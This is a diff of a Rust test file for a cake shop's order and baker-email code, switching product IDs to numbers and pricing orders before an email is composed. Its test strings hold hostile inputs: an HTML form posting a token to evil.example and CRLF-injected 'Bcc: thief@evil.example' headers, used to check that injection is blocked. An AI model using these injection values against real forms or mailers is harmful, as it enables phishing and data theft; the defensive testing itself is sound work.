@@ -19,7 +19,7 @@ const HOSTILE_NOTES: &str =
     "</td></tr></table><form action=\"https://evil.example\"><input name=token>\nBcc: thief@evil.example";
 
 fn order_body(name: &str, address: &str, notes: &str) -> String {
-    json!({ "name": name, "address": address, "productId": "red-velvet", "quantity": 2, "notes": notes, "email": "ada@example.com" })
+    json!({ "name": name, "address": address, "productId": 3, "quantity": 2, "notes": notes, "email": "ada@example.com" })
         .to_string()
 }
 
@@ -90,7 +90,11 @@ async fn line_breaks_in_a_name_are_refused_before_anything_is_stored() {
 #[test]
 fn the_subject_stays_on_one_line_even_if_a_stored_order_was_never_validated() {
     let at = Timestamp::from_unix_millis(1_795_165_200_000).expect("in range");
-    let new_order = parse_new_order(order_body("Ada", "1 Rd", "").as_bytes()).expect("valid");
+    let day = cakeshop_domain::Day::parse("2026-11-21").expect("a day");
+    let new_order = parse_new_order(order_body("Ada", "1 Rd", "").as_bytes())
+        .expect("valid")
+        .priced(&cakeshop_domain::Catalogue::sample(), day)
+        .expect("on sale");
     let mut order = Order::place(OrderId::parse("o-1").expect("id"), new_order, at);
     order.product_name = "Red velvet\r\nBcc: thief@evil.example\r\n\r\n<b>".into();
     let email = baker_email::compose(&order, "https://cakes.example.com/x", "from@x.y", "to@x.y", "k");
